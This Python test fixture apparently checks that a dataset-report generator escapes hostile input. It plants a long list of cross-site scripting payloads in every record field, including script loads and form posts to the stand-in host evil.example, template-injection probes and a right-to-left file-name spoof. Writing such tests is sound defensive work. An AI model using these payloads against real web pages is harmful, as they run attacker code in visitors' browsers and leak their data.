"""Hostile strings, and records that carry them in every place that data can reach."""

# ruff: noqa: E501 - a payload stands on one line

from __future__ import annotations

import base64

from report_data import evaluation, facts

from pipeline.dataset import Dataset, Roles
from pipeline.findings import Edit, Findings
from pipeline.report import dataset_record
from pipeline.report.label_shape import label_shape
from pipeline.report.table_page import table_page
from pipeline.report.turns_page import turns_page

RUN = "window.PWN=1"
AWAY = "http://evil.example/x"
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart", "onbegin",
           "onpointerenter", "onscroll", "onbeforeinput", "onpageshow")  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    # script elements
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script\n>", f"<scr<script>ipt>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"--></script><script>{RUN}//", f"<script src={AWAY}.js></script>",
    f"<script src='data:text/javascript,{RUN}'></script>", f"<script type=module>{RUN}</script>",
    f"<script>alert(1);{RUN}</script>", f"<svg><script>{RUN}</script></svg>", f"<math><script>{RUN}</script></math>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>", f"<noscript><script>{RUN}</script></noscript>",
    # event handlers
    *(f"<img src=x {event}={RUN}>" for event in _EVENTS),
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>", f"<iframe onload={RUN}>", f"<style onload={RUN}>",
    f"<x tabindex=0 autofocus onfocus={RUN}>",
    # out of an attribute, an element, a comment
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onmouseover="{RUN}', f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="', f"` onmouseover={RUN} `", f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</svg><svg onload={RUN}>",
    f"</desc></svg><img src=x onerror={RUN}>", f"</option></datalist></select><img src=x onerror={RUN}>",
    f"</code></pre><img src=x onerror={RUN}>", f"--><img src=x onerror={RUN}>", f"]]><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->", f"<p title='</p><img src=x onerror={RUN}>'>", f"\\\"><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><img src=x onerror={RUN}></template>",
    # addresses
    f"javascript:{RUN}", f"<a href=javascript:{RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=' &#106;avascript:{RUN}'>x</a>", f"data:text/html,<script>{RUN}</script>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math href=javascript:{RUN}>x</math>", f"<area href=javascript:{RUN}>", "vbscript:msgbox(1)",
    # frames, loads, redirections
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src={AWAY}></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>", f"<object data={AWAY}></object>", f"<embed src={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={AWAY}>", f"<link rel=stylesheet href={AWAY}.css>", f"<link rel=prefetch href={AWAY}>",
    f"<img src={AWAY}.png>", f"<img srcset='{AWAY}.png 1x'>", f"<video poster={AWAY}.png></video>",
    f"<form action={AWAY}><input name=q></form>", f"<svg><image href={AWAY}.png /></svg>", f"<svg><use href={AWAY}.svg#a /></svg>",
    # styles
    f"<style>@import '{AWAY}.css';</style>", f"<style>*{{background:url({AWAY}.png)}}</style>",
    f"<div style='background:url({AWAY}.png)'>", f"red;background:url({AWAY}.png)", f'";}} *{{background:url({AWAY}.png)}}',
    "<style>*{display:none}</style>", f"</style><style>@font-face{{font-family:x;src:url({AWAY})}}</style>",
    # templates, entities, encodings
    "{{ 7*7 }}{% raw %}<b>", "{{ self.__init__.__globals__ }}", "${7*7}#{7*7}<%= 7*7 %>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E",
    "\u202e\u2066gpj.exe\u2069\u202c", "\x00<\x00script>\x1b[31m\x07", f"\u2028<script>{RUN}</script>\u2029", "\ufeff\u200b\u00ad\u2060",
)  # fmt: skip
PLACES = ("value", "label", "column name", "row id", "file name", "title", "reason", "settings", "metadata")


def hostile_record(payloads: tuple[str, ...], place: str = "everywhere") -> dict:
    """A record with something in every field; `payloads` stand in one place, or in every place."""

    def evil(where: str, k: int = 0) -> str:
        return payloads[k % len(payloads)] if place in (where, "everywhere") else ""

    n = max(len(payloads), 12)
    text, label, extra = (
        f"{name}{evil('column name', k)}" for k, name in enumerate(("text", "label", "site"))
    )
    rows = {
        "row_id": [f"r{i:03d}{evil('row id', i)}" for i in range(n)],
        text: [f"{evil('value', i)} the fox number {i} jumps over {evil('value', i)}" for i in range(n)],
        label: [f"{'ab'[i % 2]}{evil('label', i)}" for i in range(n)],
        extra: [f"s{i % 3}{evil('metadata', i % 3)}" for i in range(n)],
        "split": ["train"] * (n - 3) + ["test"] * 3,
        "source": [f"web{i % 2}{evil('file name', i % 2)}" for i in range(n)],
    }
    raw = Dataset.of(rows, Roles(content=(text,), label=label), "text")
    steps = _steps(raw, evil)
    return {
        **_facts(raw, evil), "steps": [{**s, "settings": {"a" + evil("settings"): evil("settings", 1)}, "skipped": None}
                                       for s in facts(raw, steps)],
        "dataset": {**dataset_record(raw, raw, steps), **_other_kinds(evil, n)}, "points": _points(raw, evil),
    }  # fmt: skip


def _other_kinds(evil, n):
    """What the record says of tables, conversations, label shapes and pictures, with payloads in every text."""
    ids = [f"r{i:03d}" for i in range(n)]
    number, word = f"x{evil('column name')}", f"w{evil('column name', 1)}"
    cells = {"row_id": ids, number: [float(i) for i in range(n)], "y": [float(i % 5) for i in range(n)],
             word: [f"{'ab'[i % 2]}{evil('value', i)}" if i else None for i in range(n)]}  # fmt: skip
    table = Dataset.of(cells, Roles(content=(number, "y", word)), "tabular")
    about = [{"row_id": None, "column": number, "issue": f"constant{evil('reason')}", "score": 0.0, "because": evil("reason", 1)}]
    turns = [[{"role": f"user{evil('metadata', i)}", "content": f"ask {evil('value', i)}"},
              {"role": "assistant", "content": f"say {evil('value', i)}"}] for i in range(n)]  # fmt: skip
    pairs = Dataset.of({"row_id": ids, "prompt": turns, "chosen": turns, "rejected": turns[::-1]},
                       Roles(content=("prompt", "chosen", "rejected")), "text")  # fmt: skip
    sets = Dataset.of({"row_id": ids, "t": ids, "y": [[f"a{evil('label')}", f"b{evil('label', i)}"] for i in range(n)]},
                      Roles(content=("t",), label="y"), "text")  # fmt: skip
    body = base64.b64encode(f"<svg onload={RUN}>{evil('value')}</svg>".encode("utf-8", "replace")).decode()
    drawn = {f"k{evil('file name')}": {"jpeg": body, "size_px": [1, 1]}, "l": {"jpeg": evil("value") or "x", "size_px": [1, 1]}}
    return {"table": table_page(table, table, about), "turns": turns_page(pairs, {f"reader{evil('settings')}": 8}),
            "label_shape": label_shape(sets), "pictures": {"side_px": 1, "left_out": 0, "by_key": drawn}}  # fmt: skip


def _steps(raw, evil):
    ids, labels, text = list(raw.ids), list(raw.labels), raw.roles.content[0]
    train = [i for i in ids if raw.splits[raw.position[i]] == "train"]
    cells = dict(zip(ids, raw.table[text].to_pylist(), strict=True))
    label_edits = [
        Edit(r, "label", 0.1, "flag", f"looks wrong {evil('reason', k)}") for k, r in enumerate(train)
    ]
    copies = [Edit(a, "near_duplicate", 0.1, "flag", f"copy {evil('reason', k)}", related=[b])
              for k, (a, b) in enumerate(zip(train[::2], train[1::2], strict=False))]  # fmt: skip
    leak = Edit(train[0], "leakage", 0.1, "flag", f"leak {evil('reason')}", related=[ids[-1]])
    suggested = {r: labels[-1 - k % 3] for k, r in enumerate(train)}
    tidy = [
        Edit(r, "malformed", 0.0, "flag", f"untidy {evil('reason')}", related=[ids[-1]]) for r in train[:3]
    ]
    found = [
        ("clean", Findings.of("clean", tidy)),
        ("duplicates", Findings.of("duplicates", [*copies, leak])),
        ("label_noise", Findings.of("label_noise", label_edits, metrics={
            "suggested": suggested, "precision": {"word": evil("reason"), "value": None, "rests_on": evil("reason", 1)}})),
        ("anomalies", Findings.of("anomalies", [Edit(r, "outlier", 0.1, "flag", f"far {evil('reason', 2)}", related=train[:2])
                                                for r in train[:9]], [("outlier", ids, [0.1] * len(ids))])),
        ("quality", Findings.of("quality", [Edit(None, "own" + evil("reason"), 0.1, "flag", evil("reason", 3) or "all")])),
    ]  # fmt: skip
    assert cells
    return found


def _points(raw, evil):
    return {"rows": 3, "shown": 3, "stage": "label_noise", "classes": [f"a{evil('label')}"], "explained": 0.5,
            "x": [0.1, 0.5, 0.9], "y": [0.1, 0.5, 0.9], "class": [0, 0, -1], "split": ["train", "train", "test"],
            "issue": ["label", None, "outlier"]}  # fmt: skip


def _facts(raw, evil):
    words = evil("title")
    side = evaluation(words, classes=(f"a{evil('label')}", f"b{evil('label', 1)}"))
    compared = {"metric": "macro_f1", "raw": 0.7, "curated": 0.8, "difference": 0.1, "low": 0.02, "high": 0.12,
                "verdict": f"proved{words}", "method": words, "also": {}, "because": words}  # fmt: skip
    return {
        "title": f"News {words}", "kind": "run", "created": f"2026{words}", "seed": 1, "command": f"assay run {evil('file name')}",
        "versions": {"assay": "0.1", f"x{words}": words}, "machine": {f"cores{words}": words}, "workspace": evil("file name", 1),
        "recipe_digest": f"d{words}", "method": words, "root": raw.fingerprint, "rows_in": raw.n_rows, "rows_out": raw.n_rows,
        "guesses": [evil("column name")], "notes": [evil("file name", 2)],
        "quarantine": [{"file": f"f{evil('file name')}.csv", "line": 3, "reason": evil("reason"), "raw": evil("value")}],
        "rounds": [{"round": 1, "changes": [evil("settings")], "accepted": True, "verdict": words, "because": words,
                    "comparison": compared}],
        "evaluation": {"raw": side, "curated": side, "split": "test", "comparison": compared, "comparisons": [compared] * 2},
        "planted": [{"fault": words, "planted": 1, "found": 1, "how": words}], "methods": [{"stage": words, "does": words, "how": words}],
        "next": [{"what": words, "command": evil("file name")}], "next_changes": [evil("settings", 1)],
    }  # fmt: skip
